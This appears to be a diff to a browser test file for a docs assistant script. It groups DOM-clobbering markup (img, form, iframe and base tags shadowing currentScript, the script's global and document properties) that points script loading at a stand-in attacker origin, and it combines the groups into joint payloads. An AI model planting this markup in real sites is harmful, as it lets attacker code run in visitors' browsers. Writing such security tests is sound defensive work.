@@ -13,23 +13,34 @@ const NONCE = 'cmFuZG9t';
 /** The policy that the docs give for the script tag, for this origin. */
 const POLICY = readScriptTagPolicy(NONCE);
 
-/** Markup that a comment field may allow, with the address of a file on the other origin. */
-const CLOBBERING = [
+/** Markup that a comment field may allow, with the address of a file on the other origin: for the script's own element, */
+const OWN_SCRIPT = [
   `<img name="currentScript" src="${EVIL}/x.png">`,
   `<img name="currentScript" src="${EVIL}/x.png"><img name="currentScript" src="${EVIL}/y.png">`,
   `<form name="currentScript"><input name="src" value="${EVIL}/x.js"><input name="dataset"></form>`,
   `<object name="currentScript" data="${EVIL}/x.png"></object>`,
   `<embed name="currentScript" src="${EVIL}/x.png">`,
   `<iframe name="currentScript" src="${EVIL}/x.html"></iframe>`,
+];
+
+/** for its global, */
+const OWN_GLOBAL = [
   `<a id="DocsAssistant" href="${EVIL}/x.js"></a>`,
   `<a id="DocsAssistant" href="${EVIL}/x.js"></a><a id="DocsAssistant" name="version" href="${EVIL}/x.js"></a>`,
   '<form id="DocsAssistant"><input name="version"><input name="q"><input name="init"></form>',
   `<iframe name="DocsAssistant" src="${EVIL}/x.html"></iframe>`,
   '<iframe name="DocsAssistant" srcdoc="<a id=version></a><a id=q></a><a id=init></a>"></iframe>',
+];
+
+/** and for what it reads of the document. */
+const DOCUMENT = [
   `<base href="${EVIL}/">`,
   '<img name="body"><img name="createElement">',
   `<form name="baseURI"></form><base href="${EVIL}/docs/">`,
 ];
+
+/** One of each kind beside each other: none of them hides another. */
+const CLOBBERING = OWN_SCRIPT.map((own, at) => [own, OWN_GLOBAL[at], DOCUMENT[at]].join(''));
 
 /** Records requests for code, and questions, that reach the other origin. It answers all of them with code for the page. */
 async function startEvil(page: Page): Promise<string[]> {
